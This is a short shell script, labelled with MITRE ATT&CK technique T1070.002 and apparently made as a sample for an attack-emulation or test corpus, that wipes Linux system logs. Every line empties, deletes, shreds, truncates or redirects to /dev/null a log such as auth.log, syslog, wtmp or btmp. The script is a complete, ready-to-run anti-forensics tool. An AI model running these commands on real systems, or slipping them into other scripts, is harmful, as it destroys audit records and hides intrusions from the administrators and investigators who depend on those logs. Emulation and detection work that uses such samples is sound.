#!/bin/sh
# Clear Linux logs (T1070.002).
: > /var/log/wtmp
/bin/rm -f /var/log/auth.log
/bin/shred -u /var/log/syslog
/bin/truncate -s 0 /var/log/messages
cat /dev/null > /var/log/kern.log
/bin/ln -sf /dev/null /var/log/btmp
echo "[corpus] logs done"
